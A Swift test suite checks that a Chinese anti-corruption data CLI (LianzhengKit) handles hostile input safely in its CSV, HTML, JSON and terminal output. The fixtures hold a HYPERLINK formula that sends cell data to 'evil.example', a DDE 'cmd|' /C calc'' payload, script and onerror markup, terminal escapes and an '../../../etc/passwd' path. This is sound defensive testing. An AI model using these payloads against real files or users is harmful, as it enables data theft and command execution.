import Foundation
import LianzhengKit
import Testing

#if canImport(Glibc)
    import Glibc
#endif

/// Hostile input through the built binary: texts made to attack the
/// outputs (formulas, markup, terminal escapes, right-to-left overrides,
/// paths), megabyte fields, a million columns, nested and huge schemes.
/// Memory stays bounded, errors stay readable, outputs stay safe.
@Suite struct HostileInputCLITests {
    static let formula = #"=HYPERLINK("http://evil.example/?"&A1,"点此")"#
    static let markup = #"<script>alert('x')</script><img src=x onerror=alert(1)>"#
    static let rtl = "\u{202E}txt.exe"
    static let terminal = "\u{1B}[2J\u{1B}]0;pwned\u{07}名称"
    static let path = "../../../etc/passwd"
    static let at = "@SUM(1+1)*cmd|' /C calc'!A0"

    /// A CSV field always quoted, quotes doubled.
    static func q(_ s: String) -> String { "\"" + s.replacingOccurrences(of: "\"", with: "\"\"") + "\"" }

    static func write(_ files: [String: String], to dir: String) throws {
        try FileManager.default.createDirectory(atPath: dir, withIntermediateDirectories: true)
        for (name, text) in files { try text.write(toFile: dir + "/" + name, atomically: false, encoding: .utf8) }
    }

    /// Ids and names of every kind made of the hostile texts.
    static var hostileDataset: [String: String] {
        let (f, m, r, t, p, a) = (q(formula), q(markup), q(rtl), q(terminal), q(path), q(at))
        return [
            "units.csv": """
                unit_id,name,parent_id,kind
                "=U1",\(f),,\(m)
                "<U2>",\(m),"=U1",\(r)
                "../U3",\(t),"=U1",\(p)

                """,
            "posts.csv": """
                post_id,unit_id,name,category,holder,tenure_years,self_level,controls,key_decisions
                "=P1","<U2>",\(f),\(m),\(t),6,三级,0,是
                "@P2","../U3",\(r),\(f),\(m),1,,,否
                "<P3>","=U1",\(p),\(a),\(r),8,,0,是
                "\(terminal)","=U1",\(t),\(t),\(t),1,,,

                """,
            "powers.csv": """
                post_id,power,kind,annual_count,amount,discretion
                "=P1",\(f),行政许可,500,5000,4
                "@P2",\(t),行政审批,10,10,2
                "<P3>",\(m),物资采购,100,2000,4

                """,
            "incidents.csv": """
                incident_id,post_id,date,kind,status
                "=X1","=P1",2025-03-01,诫勉谈话,属实
                "<X2>","@P2",2024-05-01,党纪政纪处分,属实

                """,
            "assessments.csv": """
                year,subject_type,subject_id,indicator,score
                2025,单位,"<U2>",领导重视,20
                2025,岗位,"=P1",领导重视,25
                2025,岗位,"=P1",目标具体,25
                2025,岗位,"@P2",注重成效,30

                """,
            "adjustments.csv": """
                year,subject_type,subject_id,type,points,reason
                2025,岗位,"=P1",加分,2,\(f)
                2025,单位,"../U3",一票否决,,\(m)
                2025,岗位,"@P2",扣分,1,\(t)

                """,
            "risk_points.csv": """
                point_id,post_id,type,description,measures
                "=R1","=P1",岗位职责,\(f),\(m)
                "<R2>","@P2",业务流程,\(t),
                "../R3","<P3>",制度机制,\(r),\(p)

                """,
        ]
    }

    /// Control characters a terminal acts on, and the right-to-left override.
    static func hasRawControls(_ bytes: [UInt8]) -> Bool {
        let text = String(decoding: bytes, as: UTF8.self)
        return text.unicodeScalars.contains { s in
            (s.value < 0x20 && s != "\n") || (0x7F...0x9F).contains(s.value) || s == "\u{202E}"
        }
    }

    static let outputNames = ["MANIFEST", "assessments.csv", "flags.csv", "posts.csv", "report.html", "risk_points.csv",
        "scorecards.json", "units.csv"]

    @Test func hostileTextsStaySafeInEveryOutput() throws {
        let dir = makeTemporaryDirectory()
        defer { try? FileManager.default.removeItem(atPath: dir) }
        try Self.write(Self.hostileDataset, to: dir + "/data")
        let yearend = try Binary.runMeasured(["yearend", "--data", "data", "--year", "2025", "--out", "out"], in: dir)
        #expect(yearend.status == 0, "\(yearend.stderrText)")

        // Only the fixed names, only in --out: no id ever becomes a path.
        #expect(try FileManager.default.contentsOfDirectory(atPath: dir + "/out").sorted() == Self.outputNames)
        let top = try FileManager.default.contentsOfDirectory(atPath: dir).filter { !$0.hasPrefix(".") }.sorted()
        #expect(top == ["data", "lianzheng.sqlite", "lianzheng.sqlite-shm", "lianzheng.sqlite-wal", "out"]
            || top == ["data", "lianzheng.sqlite", "out"])

        // report.html: every text escaped.
        let html = String(decoding: FileManager.default.contents(atPath: dir + "/out/report.html") ?? Data(), as: UTF8.self)
        #expect(!html.contains("<script") && !html.contains("<img") && !html.contains("<U2>"))
        #expect(html.contains("&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt;"))

        // CSV: a text cell starting = + - @ tab or CR carries the ' guard;
        // what starts with - unguarded is a number of a numeric column.
        for name in Self.outputNames where name.hasSuffix(".csv") {
            let bytes = [UInt8](FileManager.default.contents(atPath: dir + "/out/" + name) ?? Data())
            for cell in csvCells(bytes) {
                guard let first = cell.unicodeScalars.first else { continue }
                if first == "=" || first == "+" || first == "@" || first == "\t" || first == "\r" {
                    Issue.record("\(name): unguarded cell \(cell.debugDescription)")
                }
                if first == "-", Double(cell) == nil {
                    Issue.record("\(name): unguarded cell \(cell.debugDescription)")
                }
            }
        }
        let units = String(decoding: FileManager.default.contents(atPath: dir + "/out/units.csv") ?? Data(), as: UTF8.self)
        #expect(units.contains("'=U1"))

        // scorecards.json is valid JSON holding the texts as they were.
        let json = FileManager.default.contents(atPath: dir + "/out/scorecards.json") ?? Data()
        #expect((try? JSONSerialization.jsonObject(with: json)) != nil)
        #expect(String(decoding: json, as: UTF8.self).contains("=P1"))

        // Nothing the terminal would act on reaches stdout or stderr, from
        // any command that prints data.
        let yearendRaw = Self.hasRawControls(yearend.stdout) || Self.hasRawControls(yearend.stderr)
        #expect(!yearendRaw, "yearend: raw control characters printed")
        for arguments in [["compare", "--year", "2025"], ["compare", "--year", "2025", "--by", "category"], ["runs"],
            ["check", "--data", "data", "--year", "2025"], ["score", "--year", "2025", "--out", "out2"]]
        {
            let r = try Binary.runMeasured(arguments, in: dir)
            #expect(r.status == 0, "\(arguments): \(r.stderrText)")
            let rawOut = Self.hasRawControls(r.stdout)
            let rawErr = Self.hasRawControls(r.stderr)
            #expect(!rawOut, "\(arguments): raw control characters on stdout")
            #expect(!rawErr, "\(arguments): raw control characters on stderr")
        }
    }

    /// An unknown id holding escapes is quoted in the error with them
    /// written out (`\u{1B}`), never raw.
    @Test func controlCharactersInErrorsAreWrittenOut() throws {
        let dir = makeTemporaryDirectory()
        defer { try? FileManager.default.removeItem(atPath: dir) }
        var files = Self.hostileDataset
        files["posts.csv"] = "post_id,unit_id,name\nP1,\(Self.q("U\u{1B}[31m\u{202E}X")),科长\n"
        files["powers.csv"] = "post_id,power,kind\n"
        files["incidents.csv"] = "incident_id,post_id,date,kind\n"
        files["assessments.csv"] = nil
        files["adjustments.csv"] = nil
        files["risk_points.csv"] = nil
        try Self.write(files, to: dir + "/data")
        let r = try Binary.runMeasured(["import", "--data", "data"], in: dir)
        #expect(r.status == 65)
        #expect(r.stderrText.contains(#"单位编号不存在: U\u{1B}[31m\u{202E}X (unknown unit)"#), "\(r.stderrText)")
        let raw = Self.hasRawControls(r.stderr)
        #expect(!raw)
    }

    /// A field of 8 MB imports with memory in proportion; a bad one is
    /// reported with its value shortened, not printed whole.
    @Test func megabyteFields() throws {
        let dir = makeTemporaryDirectory()
        defer { try? FileManager.default.removeItem(atPath: dir) }
        let huge = String(repeating: "张", count: 8 << 20 / 3)
        var files = DatasetTexts.small
        files["posts.csv"] = "post_id,unit_id,name,holder\nP1,U1,科长,\(Self.q(huge + "\n" + huge))\nP2,U1,科员,李四\n"
        try Self.write(files, to: dir + "/good")
        let good = try Binary.runMeasured(["import", "--data", "good"], in: dir)
        #expect(good.status == 0, "\(good.stderrText)")
        #expect(good.peakMiB < 400, "peak \(good.peakMiB) MiB for a 16 MB field")

        files["incidents.csv"] = "incident_id,post_id,date,kind\nX1,P1,\(Self.q(huge)),信访举报\n"
        try Self.write(files, to: dir + "/bad")
        let bad = try Binary.runMeasured(["import", "--data", "bad", "--db", "bad.sqlite"], in: dir)
        #expect(bad.status == 65)
        #expect(bad.stderr.count < 4096, "stderr of \(bad.stderr.count) bytes")
        #expect(bad.stderrText.contains("日期无效: 张张张"))
        #expect(bad.stderrText.contains("(invalid date)"))
    }

    /// A header line of a million columns: read with bounded memory, the
    /// unknown columns summed up in a few warning lines.
    @Test func aMillionColumns() throws {
        let dir = makeTemporaryDirectory()
        defer { try? FileManager.default.removeItem(atPath: dir) }
        var files = DatasetTexts.small
        let extra = (1...1_000_000).lazy.map { "c\($0)" }.joined(separator: ",")
        files["units.csv"] = "unit_id,name,\(extra),parent_id\nU1,市局,\n"
        try Self.write(files, to: dir + "/wide")
        let r = try Binary.runMeasured(["import", "--data", "wide"], in: dir)
        #expect(r.status == 0, "\(r.stderrText.prefix(500))")
        #expect(r.stderrText.split(separator: "\n").count <= 25, "\(r.stderr.count) bytes of warnings")
        #expect(r.stderrText.contains("另有 999980 个未知列"), "\(r.stderrText.suffix(300))")
        #expect(r.peakMiB < 400, "peak \(r.peakMiB) MiB")

        // Without its required columns: one error, as short.
        files["units.csv"] = "\(extra)\nU1\n"
        try Self.write(files, to: dir + "/wide-bad")
        let bad = try Binary.runMeasured(["import", "--data", "wide-bad", "--db", "bad.sqlite"], in: dir)
        #expect(bad.status == 65)
        #expect(bad.stderr.count < 8192)
    }

    /// A scheme text made to hurt, named for the test list.
    struct HostileScheme: CustomTestStringConvertible, Sendable {
        var id: String
        var text: @Sendable () -> String
        var message: String
        var testDescription: String { id }
    }

    /// Nesting is refused past 64 levels with its position; a scheme file
    /// far larger than any real one is refused before it is parsed.
    @Test(arguments: [
        HostileScheme(id: "a million [", text: { String(repeating: "[", count: 1_000_000) }, message: "嵌套超过 64 层"),
        HostileScheme(id: "200,000 nested objects", text: { String(repeating: #"{"a":"#, count: 200_000) }, message: "嵌套超过 64 层"),
        HostileScheme(id: "a 20 MB name", text: { #"{"name":""# + String(repeating: "x", count: 20 << 20) + #""}"# },
            message: "评分方案文件过大"),
    ])
    func hostileSchemes(_ c: HostileScheme) throws {
        let (text, message) = (c.text(), c.message)
        let dir = makeTemporaryDirectory()
        defer { try? FileManager.default.removeItem(atPath: dir) }
        try Self.write(DatasetTexts.small, to: dir + "/data")
        try text.write(toFile: dir + "/scheme.json", atomically: false, encoding: .utf8)
        let r = try Binary.runMeasured(["yearend", "--data", "data", "--year", "2025", "--scheme", "scheme.json"], in: dir)
        #expect(r.status == 65)
        #expect(r.stderrText.contains(message), "\(r.stderrText.prefix(400))")
        #expect(r.stderr.count < 4096)
        #expect(r.peakMiB < 400)
        #expect(!FileManager.default.fileExists(atPath: dir + "/lianzheng.sqlite"))
    }
}

/// A small valid dataset as file texts.
enum DatasetTexts {
    static let small: [String: String] = [
        "units.csv": "unit_id,name,parent_id\nU1,市局,\n",
        "posts.csv": "post_id,unit_id,name\nP1,U1,科长\n",
        "powers.csv": "post_id,power,kind\nP1,审批,行政许可\n",
        "incidents.csv": "incident_id,post_id,date,kind\nX1,P1,2025-01-05,信访举报\n",
    ]
}

/// Every cell of a CSV file (header included), BOM dropped.
func csvCells(_ bytes: [UInt8]) -> [String] {
    let body = bytes.starts(with: [0xEF, 0xBB, 0xBF]) ? Array(bytes.dropFirst(3)) : bytes
    return body.withUnsafeBufferPointer { buffer in
        var scanner = CSVScanner(bytes: buffer)
        var record = CSVRecord()
        var cells: [String] = []
        while (try? scanner.next(into: &record)) == true {
            for k in record.fields.indices { cells.append(scanner.string(record, k)) }
        }
        return cells
    }
}
